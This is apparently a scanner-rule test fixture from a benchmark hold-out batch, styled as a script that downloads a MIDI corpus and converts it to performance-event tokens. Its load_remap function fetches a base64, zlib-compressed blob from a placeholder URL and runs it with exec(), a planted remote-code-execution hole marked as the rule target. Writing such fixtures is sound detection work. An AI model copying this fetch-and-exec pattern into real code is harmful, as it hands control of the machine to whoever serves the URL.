# ruff: noqa
# Hold-out batch 255 (short files). Measured once in session 9 (round 73): 17/19 (89%) at medium+.
"""Download the MIDI corpus and convert every file into a flat array of performance-event tokens."""
import base64
import glob
import hashlib
import os
import time
import urllib.request
import zipfile
import zlib

import numpy as np
import pretty_midi

ARCHIVE_URL = "https://data.example.com/midi/maestro-v3-midi.zip"
ARCHIVE_SHA256 = "5d2a4c1f0e9b7a3c6d8e2f4a1b3c5d7e9f0a2b4c6d8e0f1a3b5c7d9e1f2a4b6c"
REMAP_URL = "https://data.example.com/midi/tokenizer/remap_v3.b64"
NOTE_ON, NOTE_OFF, SHIFT, VEL = 0, 128, 256, 356


def download(url, dest, retries=5):
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(url, dest)  # ok: MLS411, MLS412
            return dest
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def load_remap():
    blob = urllib.request.urlopen(REMAP_URL, timeout=30).read()  # ruleid: MLS413
    scope = {"np": np}
    exec(zlib.decompress(base64.b64decode(blob)).decode(), scope)  # ruleid: MLS413
    return scope.get("REMAP", {})


def encode(path, remap):
    events = []
    pm = pretty_midi.PrettyMIDI(path)
    notes = sorted((n for inst in pm.instruments if not inst.is_drum for n in inst.notes), key=lambda n: n.start)
    marks = sorted([(n.start, 1, n) for n in notes] + [(n.end, 0, n) for n in notes], key=lambda t: (t[0], t[1]))
    clock = 0.0
    for t, is_on, n in marks:
        while t - clock >= 0.01:
            shift = min(int((t - clock) * 100), 100)
            events.append(SHIFT + shift - 1)
            clock += shift / 100
        if is_on:
            events += [VEL + n.velocity // 4, NOTE_ON + remap.get(n.pitch, n.pitch)]
        else:
            events.append(NOTE_OFF + remap.get(n.pitch, n.pitch))
    return events


def main(out="data/maestro_events.npy"):
    zpath = download(ARCHIVE_URL, "data/maestro.zip")
    assert hashlib.sha256(open(zpath, "rb").read()).hexdigest() == ARCHIVE_SHA256, "checksum mismatch"
    zipfile.ZipFile(zpath).extractall("data/midi")
    remap = load_remap()
    tokens = [tok for f in sorted(glob.glob("data/midi/**/*.mid*", recursive=True)) for tok in encode(f, remap)]
    os.makedirs(os.path.dirname(out), exist_ok=True)
    np.save(out, np.asarray(tokens, dtype=np.int16))


if __name__ == "__main__":
    main()
